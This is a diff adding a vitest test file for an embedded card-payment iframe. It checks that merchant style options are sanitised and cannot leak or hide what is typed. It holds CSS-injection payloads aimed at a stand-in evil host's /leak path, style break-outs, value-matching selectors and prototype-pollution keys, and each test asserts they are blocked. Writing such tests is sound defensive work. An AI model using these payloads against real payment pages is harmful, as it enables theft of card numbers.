@@ -1,0 +1,146 @@
+/** A page's style as a way to fetch, to select, to run, or to hide what is typed. */
+import { expect } from 'vitest';
+import { inEveryEngine, type Tab } from './every-engine.js';
+
+const FRAME = '#card iframe';
+
+/** The rules that a page's style came to. */
+const rulesIn = (tab: Tab) =>
+  tab.run(
+    () =>
+      document.adoptedStyleSheets
+        .flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText))
+        .filter((text) => !/\{\s*\}/.test(text)),
+    undefined,
+    FRAME,
+  );
+
+const values = (url: string) => [
+  `url(${url})`,
+  `url("${url}")`,
+  `image-set("${url}" 1x)`,
+  `-webkit-image-set("${url}" 1x)`,
+  `-webkit-cross-fade(url(${url}), url(${url}), 50%)`,
+  `\\75 rl(${url})`,
+  `u/**/rl(${url})`,
+  `src("${url}")`,
+  'element(#number)',
+  `red; background-image: url(${url})`,
+  `red } input { background: url(${url}) } #x {`,
+  `</style><img src="${url}">`,
+  'red !important',
+  'expression(alert(1))',
+  `var(--x, url(${url}))`,
+  'var(--x)',
+  'attr(value)',
+  'env(safe-area-inset-top)',
+];
+
+const PROPERTIES = [
+  'color',
+  'backgroundColor',
+  'fontFamily',
+  'padding',
+  'textShadow',
+  'iconColor',
+  'textDecoration',
+  'backgroundImage',
+  'cursor',
+  'listStyleImage',
+  'mask',
+  'filter',
+  'content',
+];
+
+inEveryEngine(
+  'a value that could fetch, end its rule or read the field is dropped [Y1, Y2, Y9]',
+  async (tab) => {
+    await tab.open();
+    const before = await rulesIn(tab);
+    for (const value of values(`${tab.evil.url}/leak`)) {
+      const base = Object.fromEntries(PROPERTIES.map((name) => [name, value]));
+      await tab.run((style) => window.card.update({ style }), { base, invalid: base, empty: base });
+      await tab.run(() => window.payframe.createToken(window.card));
+      expect(await rulesIn(tab), value).toEqual(before);
+    }
+    await tab.press('Card number', FRAME);
+    await tab.type('42424242');
+    expect(tab.evil.requests.filter(({ url }) => url.includes('leak'))).toEqual([]);
+  },
+);
+
+inEveryEngine('a style selects the states that there are, and sets looks alone [Y3, Y7]', async (tab) => {
+  const danger = {
+    color: 'rgb(1, 2, 3)',
+    backgroundImage: 'none',
+    content: '"x"',
+    position: 'fixed',
+    opacity: '0',
+    direction: 'rtl',
+    unicodeBidi: 'bidi-override',
+  };
+  const style = {
+    'input[value^="4"]': danger,
+    '@media all': danger,
+    ':has(input)': danger,
+    '#card, body': danger,
+    base: {
+      ...danger,
+      'input[value^="4"]': danger,
+      '::before': danger,
+      ':focus, body': danger,
+      ':focus': danger,
+    },
+  };
+  await tab.open({ card: { style } });
+  expect(await rulesIn(tab)).toEqual([
+    '#card { color: rgb(1, 2, 3); }',
+    '#card input:focus { color: rgb(1, 2, 3); }',
+  ]);
+});
+
+inEveryEngine('a number reads from left to right, whatever page and style want [Y7]', async (tab) => {
+  await tab.open({
+    head: '<style>html { direction: rtl; unicode-bidi: bidi-override }</style>',
+    card: {
+      style: { base: { direction: 'rtl', unicodeBidi: 'bidi-override', textIndent: '-9999px' } } as never,
+    },
+  });
+  const looks = await tab.run(
+    () => {
+      const { direction, unicodeBidi, opacity, visibility, textIndent } = getComputedStyle(
+        document.querySelector('#number') as HTMLInputElement,
+      );
+      return {
+        direction,
+        bidi: /override/.test(unicodeBidi),
+        opacity,
+        visibility,
+        indent: Number.parseInt(textIndent, 10),
+      };
+    },
+    undefined,
+    FRAME,
+  );
+  expect(looks).toMatchObject({ direction: 'ltr', bidi: false, opacity: '1', visibility: 'visible' });
+  expect(Math.abs(looks.indent)).toBeLessThan(100);
+});
+
+inEveryEngine(
+  'ten thousand keys, a megabyte of value and names of every object stop no field [Y6]',
+  async (tab) => {
+    await tab.open();
+    await tab.run(() => {
+      const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`--key-${at}`, 'red']));
+      const base = {
+        ...many,
+        color: 'x'.repeat(1_000_000),
+        fontSize: Number.NaN,
+        ...JSON.parse('{"__proto__": {"color": "red"}, "constructor": {"color": "red"}, "toString": "red"}'),
+      };
+      window.card.update({ style: { base } as never });
+    });
+    await tab.typeCard();
+    expect((await tab.pay()).paymentMethod?.id).toMatch(/^pm_/);
+  },
+);
